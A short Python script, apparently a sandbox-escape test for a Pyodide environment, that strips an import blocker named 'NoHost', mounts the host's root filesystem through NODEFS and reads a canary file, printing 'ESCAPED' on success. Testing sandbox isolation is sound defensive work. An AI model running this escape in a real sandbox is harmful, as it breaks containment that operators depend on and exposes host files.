from world import *

print("TRIED", flush=True)
import sys
sys.meta_path[:] = [f for f in sys.meta_path if getattr(f, "__name__", "") != "NoHost"]
import pyodide_js
pyodide_js.FS.mkdirTree("/host")
pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/host")
print("ESCAPED", open("/host" + CANARY).read())
